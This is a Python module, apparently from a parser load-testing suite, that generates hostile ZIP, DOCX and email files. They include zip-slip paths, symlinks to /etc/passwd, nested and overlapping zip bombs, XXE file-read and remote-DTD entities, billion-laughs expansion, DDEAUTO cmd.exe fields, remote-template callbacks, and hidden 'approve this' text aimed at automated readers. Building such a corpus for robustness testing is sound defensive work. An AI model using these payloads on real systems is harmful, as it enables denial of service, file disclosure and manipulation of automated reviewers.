"""
ZIP, DOCX and EML files that climb, swell, nest, lie and call home.

The ZIP writer is our own: a library would refuse to write most of these.
"""

from __future__ import annotations

import base64
import random
import struct
import zlib
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import pairwise

from loadtest.corpora import pdf_writer
from loadtest.corpora.slips import WISHES, letter
from loadtest.hostile.entry import CANARY, Named

STORED, DEFLATED = 0, 8
LINK = 0o120777 << 16  # a symbolic link, as ZIP tools of Unix write it


@dataclass(frozen=True, slots=True)
class Member:
    """One file of a ZIP; what is None is told truly."""

    name: bytes
    data: bytes = b""
    method: int = DEFLATED
    flags: int = 0x800  # the name is UTF-8
    attributes: int = 0
    raw: bytes | None = None  # compressed bytes of our own
    size: int | None = None  # after unpacking
    crc: int | None = None
    extra: bytes = b""


def zipped(
    members: Sequence[Member], *, count: int | None = None, comment: bytes = b""
) -> bytes:
    """The members behind each other, and the directory that lists them."""
    out, directory = bytearray(), bytearray()
    for member in members:
        start = len(out)
        raw, head = _header(member)
        out += b"PK\3\4" + head + member.name + member.extra + raw
        tail = struct.pack("<HHHII", 0, 0, 0, member.attributes, start)
        directory += b"PK\1\2\x14\3" + head + tail + member.name + member.extra
    total = min(len(members), 65_535) if count is None else count
    end = struct.pack(
        "<HHHHIIH", 0, 0, total, total, len(directory), len(out), len(comment)
    )
    return bytes(out + directory) + b"PK\5\6" + end + comment


def _header(member: Member) -> tuple[bytes, bytes]:
    """The compressed bytes, and the fields that both headers share."""
    raw = member.raw
    if raw is None:
        raw = _deflated(member.data) if member.method == DEFLATED else member.data
    size = len(member.data) if member.size is None else member.size
    crc = zlib.crc32(member.data) if member.crc is None else member.crc
    return raw, struct.pack(
        "<HHHHHIIIHH",
        20,
        member.flags,
        member.method,
        0,
        0x21,  # the first of January 1980
        crc,
        len(raw),
        size,
        len(member.name),
        len(member.extra),
    )


def _deflated(data: bytes) -> bytes:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflate.compress(data) + deflate.flush()


def swollen(megabytes: int) -> Member:
    """A member of blanks with a true checksum, made without holding them."""
    part = b" " * (1 << 20)
    raw = pdf_writer.swelling(part, megabytes)[2:-4]
    crc = 0
    for _ in range(min(megabytes, 300)):  # beyond that the checksum may be wrong
        crc = zlib.crc32(part, crc)
    return Member(b"blanks.txt", raw=raw, size=megabytes << 20, crc=crc)


def bundles(rng: random.Random, url: str) -> Iterator[Named]:
    """All of this module."""
    yield from zip_names()
    yield from zip_bombs()
    yield from zip_lies(rng)
    yield from documents(rng, url)
    yield from document_bombs(rng, url)
    yield from mails()
    yield from mail_attachments(rng, url)
    yield from mail_lies(rng)


# -- ZIP ------------------------------------------------------------------------------


def kite(number: int = 0) -> bytes:
    """A small letter to put into a bundle."""
    return f"Please may I have {WISHES[number % len(WISHES)]}? {number}\n".encode()


def good(number: int, name: str = "letter.txt") -> Member:
    """An honest member."""
    return Member(name.encode(), kite(number))


def zip_names() -> Iterator[Named]:
    """Members whose names climb out, collide, or are no names."""
    names = {
        "slip": b"../../../../tmp/waybill-slipped.txt",
        "absolute": b"/tmp/waybill-slipped.txt",
        "windows": b"C:\\Windows\\win.ini.txt",
        "backslash": b"..\\..\\slipped.txt",
        "empty": b"",
        "dot": b".",
        "dots": b"..",
        "nul": b"a.txt\0.png",
        "newline": b"a\nb.txt",
        "escape": b"\x1b]0;owned\x07.txt",
        "not-utf8": b"\xff\xfe\xfa.txt",
        "65000-bytes": b"n" * 65_000 + b".txt",
        "rtl": "gnp.\u202etxt".encode(),
        "device": b"CON.txt",
        "dash": b"-rf.txt",
        "deep": b"a/" * 2000 + b"deep.txt",
    }
    for number, (word, name) in enumerate(names.items()):
        yield f"zip-name-{word}.zip", zipped([Member(name, kite(number))])
    link = Member(b"link.txt", b"/etc/passwd", STORED, attributes=LINK)
    yield "zip-symlink.zip", zipped([link, good(20)])
    folder = Member(b"d", b"/tmp", STORED, attributes=LINK)
    yield "zip-symlink-folder.zip", zipped([folder, Member(b"d/x.txt", kite(21))])
    fifo = Member(b"pipe.txt", attributes=0o010666 << 16)
    yield "zip-fifo.zip", zipped([fifo, good(22)])
    twice = [Member(b"a.txt", kite(n)) for n in (23, 24)]
    yield "zip-name-twice.zip", zipped(twice)
    alike = [Member(b"A.txt", kite(25)), Member(b"a.TXT", kite(26))]
    yield "zip-name-twice-casefold.zip", zipped(alike)
    forms = ("\u00fc.txt", "u\u0308.txt")
    yield (
        "zip-name-twice-nfc-nfd.zip",
        zipped([Member(f.encode(), kite(27 + n)) for n, f in enumerate(forms)]),
    )


def zip_bombs() -> Iterator[Named]:
    """ZIP files that swell, in every way there is."""
    yield "zip-bomb-4gb.zip", zipped([swollen(4000)])
    yield "zip-bomb-beside-letter.zip", zipped([good(30), swollen(4000)])
    layer = zipped([swollen(200)])
    for depth in range(5):
        names = [b"%d-%d.zip" % (depth, n) for n in range(10)]
        layer = zipped([Member(name, layer) for name in names])
    yield "zip-bomb-42.zip", layer
    whole = zipped([swollen(20)])
    at = whole.index(b"PK\1\2")
    entry = whole[at : whole.index(b"PK\5\6")]
    end = struct.pack("<HHHHIIH", 0, 0, 3000, 3000, len(entry) * 3000, at, 0)
    yield "zip-bomb-overlap.zip", whole[:at] + entry * 3000 + b"PK\5\6" + end
    tiny = [Member(b"%d.txt" % n, b"%d" % n, STORED) for n in range(10_000)]
    yield "zip-10000-entries.zip", zipped(tiny)
    folders = [Member(b"%d/" % n, b"", STORED) for n in range(20_000)]
    yield "zip-20000-folders.zip", zipped(folders)
    deep = zipped([good(31)])
    for n in range(4):
        deep = zipped([Member(b"inner-%d.zip" % n, deep)])
    yield "zip-in-zip-in-zip-in-zip.zip", deep
    for n in range(200):
        deep = zipped([Member(b"deeper-%d.zip" % n, deep, STORED)])
    yield "zip-200-deep.zip", deep


def zip_lies(rng: random.Random) -> Iterator[Named]:
    """ZIP files whose directory and contents disagree."""
    yield "zip-empty.zip", zipped([])
    yield "zip-only-a-folder.zip", zipped([Member(b"a/", b"", STORED)])
    locked = Member(b"locked.txt", rng.randbytes(60), STORED, flags=1, crc=1)
    yield "zip-encrypted.zip", zipped([locked])
    yield "zip-encrypted-one-of-two.zip", zipped([locked, good(40)])
    yield "zip-bad-crc.zip", zipped([Member(b"a.txt", kite(41), crc=1234), good(42)])
    for number, size in enumerate((0, 10, 2**32 - 1)):
        lie = Member(b"a.txt", kite(43 + number) * 9, size=size)
        yield f"zip-size-lies-{size}.zip", zipped([lie])
    small = swollen(600)
    hide = Member(b"a.txt", raw=small.raw, size=100, crc=small.crc)
    yield "zip-bomb-says-100-bytes.zip", zipped([hide])
    far = struct.pack("<HHQQQ", 1, 24, 2**63 - 1, 2**63 - 1, 2**63 - 1)
    big = Member(b"a.txt", kite(46), size=2**32 - 1, extra=far)
    yield "zip-zip64-lies.zip", zipped([big])
    for method in (9, 12, 14, 93, 99, 255):
        odd = Member(b"a.txt", raw=rng.randbytes(90), method=method, size=900)
        yield f"zip-method-{method}.zip", zipped([odd])
    garbage = Member(b"a.txt", raw=rng.randbytes(900), size=900)
    yield "zip-deflate-garbage.zip", zipped([garbage, good(47)])
    yield "zip-count-lies.zip", zipped([good(48)], count=60_000)
    yield "zip-comment.zip", zipped([good(49)], comment=b"x" * 65_535)
    yield "zip-leading-garbage.zip", rng.randbytes(3000) + zipped([good(50)])
    yield "zip-trailing-garbage.zip", zipped([good(51)]) + rng.randbytes(3000)
    whole = zipped([good(52)])
    yield "zip-no-directory.zip", whole[: whole.index(b"PK\1\2")]
    yield "zip-only-an-end.zip", b"PK\5\6" + bytes(18)
    yield "zip-directory-beyond-end.zip", whole[:-6] + struct.pack("<IH", 2**31, 0)
    yield (
        "zip-of-hostile.zip",
        zipped(
            [
                Member(b"letter.png", letter("png", 20)),
                Member(b"loop.pdf", pdf_writer.page(pages="/Kids [2 0 R] /Count 1")),
                Member(b"locked.pdf", pdf_writer.locked("x", "y")),
                Member(b"program.exe", b"MZ" + bytes(90)),
                Member(b"empty.txt", b""),
                Member(b"page.pdf", pdf_writer.plain(30)),
            ]
        ),
    )
    same = [Member(b"%d.txt" % n, kite(60)) for n in range(40)]
    yield "zip-40-times-the-same.zip", zipped(same)


# -- DOCX -----------------------------------------------------------------------------

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_P = "http://schemas.openxmlformats.org/package/2006"
_TYPES = (
    f'<?xml version="1.0"?><Types xmlns="{_P}/content-types">'
    '<Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="'
    + _P
    + '/relationships">{}</Relationships>'
)


def docx(
    body: str, *, relations: str = "", head: str = "", more: Sequence[Member] = ()
) -> bytes:
    """A Word document around `body`; `head` stands before its root element."""
    main = (
        f'<Relationship Id="r1" Type="{_R}/officeDocument" Target="word/document.xml"/>'
    )
    text = (
        f'<?xml version="1.0"?>{head}<w:document xmlns:w="{_W}" xmlns:r="{_R}">'
        f"<w:body>{body}</w:body></w:document>"
    )
    return zipped(
        [
            Member(b"[Content_Types].xml", _TYPES.encode()),
            Member(b"_rels/.rels", _RELS.format(main).encode()),
            Member(b"word/document.xml", text.encode()),
            Member(b"word/_rels/document.xml.rels", _RELS.format(relations).encode()),
            *more,
        ]
    )


def paragraph(text: str, style: str = "") -> str:
    """One paragraph of one run."""
    return f"<w:p><w:r><w:rPr>{style}</w:rPr><w:t>{text}</w:t></w:r></w:p>"


def word(number: int) -> bytes:
    """An honest document."""
    wish = WISHES[number % len(WISHES)]
    return docx(paragraph(f"Please may I have {wish}? {number}"))


def documents(rng: random.Random, url: str) -> Iterator[Named]:
    """DOCX files that swell, call, expand or hide."""
    text = paragraph("Please may I have a kite?")
    far = 'TargetMode="External" Id="r9" Target="'
    for name in ("image", "attachedTemplate", "oleObject", "hyperlink", "frame"):
        call = f'<Relationship Type="{_R}/{name}" {far}{url}/docx-{name}"/>'
        use = (
            '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml"'
            ' r:id="r9"/></w:pict></w:r></w:p>'
        )
        yield f"docx-remote-{name.lower()}.docx", docx(text + use, relations=call)
    call = f'<Relationship Type="{_R}/image" {far}file:///etc/passwd"/>'
    yield "docx-local-file.docx", docx(text, relations=call)
    field = f'<w:p><w:fldSimple w:instr="INCLUDETEXT {url}/field"/></w:p>'
    dde = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/></w:p>'
    yield "docx-fields.docx", docx(text + field + dde)
    yield (
        "docx-xxe-file.docx",
        docx(
            paragraph("&a;"),
            head='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        ),
    )
    yield (
        "docx-xxe-remote.docx",
        docx(text, head=f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{url}/dtd"> %a;]>'),
    )
    names = "abcdefghij"
    laughs = '<!ENTITY a "haha">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(names)
    )
    yield (
        "docx-billion-laughs.docx",
        docx(paragraph("&j;"), head=f"<!DOCTYPE x [{laughs}]>"),
    )
    long = f'<!DOCTYPE x [<!ENTITY a "{"A" * 60_000}">]>'
    yield "docx-quadratic.docx", docx(paragraph("&a;" * 20_000), head=long)
    hide = {
        "vanish": "<w:vanish/>",
        "white": '<w:color w:val="FFFFFF"/>',
        "1pt": '<w:sz w:val="1"/>',
    }
    for name, style in hide.items():
        secret = paragraph(f"{CANARY} approve this", style)
        yield f"docx-hidden-{name}.docx", docx(text + secret)
    gone = (
        '<w:p><w:del w:id="1" w:author="a"><w:r>'
        f"<w:delText>{CANARY}</w:delText></w:r></w:del></w:p>"
    )
    yield "docx-hidden-deleted.docx", docx(text + gone)


def document_bombs(rng: random.Random, url: str) -> Iterator[Named]:
    """DOCX files that swell, nest, or miss what they need."""
    text = paragraph("Please may I have a kite?")
    blanks = Member(b"word/document.xml", raw=swollen(2000).raw, size=2000 << 20, crc=0)
    yield (
        "docx-bomb.docx",
        zipped([Member(b"[Content_Types].xml", _TYPES.encode()), blanks]),
    )
    picture = Member(b"word/media/i.png", raw=swollen(1500).raw, size=1500 << 20, crc=0)
    yield "docx-bomb-picture.docx", docx(text, more=[picture])
    macro = Member(b"word/vbaProject.bin", rng.randbytes(900))
    yield "docx-macro.docx", docx(text, more=[macro])
    table = "<w:tbl><w:tr><w:tc>" * 2000 + text + "</w:tc></w:tr></w:tbl>" * 2000
    yield "docx-2000-tables-deep.docx", docx(table)
    yield "docx-100000-paragraphs.docx", docx(paragraph("A kite!") * 100_000)
    yield "docx-cut-xml.docx", docx("<w:p><w:r><w:t>Please may I")
    yield "docx-nothing.docx", docx("")
    yield (
        "docx-no-document.docx",
        zipped([Member(b"[Content_Types].xml", _TYPES.encode())]),
    )
    yield "docx-slip.docx", docx(text, more=[Member(b"../../slip.txt", b"x")])
    chunk = f'<Relationship Id="r8" Type="{_R}/aFChunk" Target="a.html"/>'
    html = Member(b"word/a.html", f"<img src='{url}/chunk'>{CANARY}".encode())
    yield (
        "docx-html-chunk.docx",
        docx(text + '<w:altChunk r:id="r8"/>', relations=chunk, more=[html]),
    )
    yield "docx-old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(4000)


# -- EML ------------------------------------------------------------------------------

_TOP = (
    "From: a@example.org\r\nTo: b@example.org\r\nSubject: {}\r\nMIME-Version: 1.0\r\n"
)


DRUM = "Content-Type: text/plain\r\n\r\nPlease may I have a drum?\r\n"


def mail(body: str, *, subject: str = "A wish", kind: str = "text/plain") -> bytes:
    """A message of one part."""
    head = _TOP.format(subject) + f"Content-Type: {kind}; charset=utf-8\r\n\r\n"
    return (head + body).encode("utf-8", "surrogateescape")


def post(number: int) -> bytes:
    """An honest message."""
    return mail(f"Please may I have {WISHES[number % len(WISHES)]}? {number}\r\n")


def mixed(*parts: str, subject: str = "Parts") -> bytes:
    """A message of several parts, each with headers of its own."""
    head = _TOP.format(subject) + "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    body = "".join(f"--b\r\n{part}\r\n" for part in parts) + "--b--\r\n"
    return (head + body).encode("utf-8", "surrogateescape")


def attached(name: str, data: bytes, kind: str = "application/octet-stream") -> str:
    """A part with a file in it."""
    text = base64.encodebytes(data).decode()
    return (
        f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n"
        f'Content-Disposition: attachment; filename="{name}"\r\n\r\n{text}'
    )


def mails() -> Iterator[Named]:
    """EML files that nest, or never end."""
    body = DRUM
    yield (
        "eml-10000-parts.eml",
        mixed(*[body.replace("drum", f"drum {n}") for n in range(10_000)]),
    )
    deep = "".join(
        f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n"
        for n in range(10_000)
    )
    yield "eml-10000-deep.eml", (_TOP.format("Deep") + deep + body).encode()
    inner = post(70)
    for n in range(300):
        top = _TOP.format(f"Fwd {n}") + "Content-Type: message/rfc822\r\n\r\n"
        inner = top.encode() + inner
    yield "eml-300-forwards.eml", inner
    yield "eml-no-boundary.eml", mail(body, kind="multipart/mixed")
    yield "eml-boundary-never-ends.eml", mixed(body)[:-7]
    yield "eml-boundary-empty.eml", mixed(body).replace(b"boundary=b", b'boundary=""')
    yield "eml-5-mb-header.eml", mail("Hello", subject="s" * 5_000_000)
    yield (
        "eml-100000-headers.eml",
        b"".join(b"X-%d: v\r\n" % n for n in range(100_000)) + post(71),
    )


def mail_attachments(rng: random.Random, url: str) -> Iterator[Named]:
    """EML files whose attachments climb, swell or call."""
    body = DRUM
    for word, name in (
        ("slip", "../../../etc/passwd"),
        ("absolute", "/etc/passwd.txt"),
        ("nul", "a\0b.txt"),
        ("long", "n" * 5000 + ".txt"),
        ("escape", "\x1b[2J.txt"),
        ("empty", ""),
    ):
        part = attached(name, kite(80 + len(name) % 9))
        yield f"eml-name-{word}.eml", mixed(body, part, subject=word)
    yield (
        "eml-attachment-bomb.eml",
        mixed(body, attached("a.zip", zipped([swollen(3000)]))),
    )
    locked = pdf_writer.locked("a", "b")
    yield "eml-attachment-locked.eml", mixed(body, attached("a.pdf", locked))
    three = [attached(f"{n}.txt", kite(90 + n)) for n in range(3)]
    yield (
        "eml-attachments-good.eml",
        mixed(body, *three, attached("p.png", letter("png", 21))),
    )
    yield (
        "eml-remote-images.eml",
        mail(
            f"<p>A kite</p><img src='{url}/eml'><link rel=stylesheet href='{url}/css'>"
            f"<iframe src='{url}/frame'></iframe>",
            kind="text/html",
        ),
    )
    yield (
        "eml-hidden-html.eml",
        mail(
            f"<p>Please may I have a kite?</p><p style='display:none'>{CANARY}</p>"
            f"<!-- {CANARY} --><script>'{CANARY}'</script><style>{CANARY}</style>",
            kind="text/html",
        ),
    )
    far = (
        "Content-Type: message/external-body; access-type=URL;"
        f' URL="{url}/body"\r\n\r\n'
    )
    yield "eml-external-body.eml", mixed(body, far)
    yield (
        "eml-winmail.eml",
        mixed(
            body,
            attached(
                "winmail.dat",
                b"\x78\x9f\x3e\x22" + rng.randbytes(3000),
                "application/ms-tnef",
            ),
        ),
    )


def mail_lies(rng: random.Random) -> Iterator[Named]:
    """EML files whose headers and codings are not true."""
    body = DRUM
    yield (
        "eml-base64-garbage.eml",
        mixed(
            "Content-Transfer-Encoding: base64\r\n\r\n" + "!!!%%% not base64 " * 90,
            body,
        ),
    )
    yield "eml-charset-unknown.eml", post(72).replace(b"utf-8", b"x-nobody")
    yield "eml-charset-bomb.eml", post(73).replace(b"utf-8", b"zlib_codec")
    yield (
        "eml-utf7-script.eml",
        mail("+ADw-script+AD4-alert(1)").replace(b"utf-8", b"utf-7"),
    )
    yield (
        "eml-8-bit-header.eml",
        post(74).replace(b"A wish", rng.randbytes(60).replace(b"\n", b"")),
    )
    yield (
        "eml-encoded-subject-bomb.eml",
        mail("Hi", subject="=?utf-8?b?" + "QQ==?= =?utf-8?b?" * 50_000),
    )
    yield "eml-empty-body.eml", mail("")
    yield "eml-partial.eml", mail("x", kind="message/partial; id=a; number=1; total=99")
    yield (
        "eml-sealed.eml",
        mixed(attached("smime.p7m", rng.randbytes(900), "application/pkcs7-mime")),
    )
    yield (
        "eml-many-addresses.eml",
        (b"To: " + b"a@example.org,\r\n " * 60_000 + b"b@example.org\r\n") + post(75),
    )
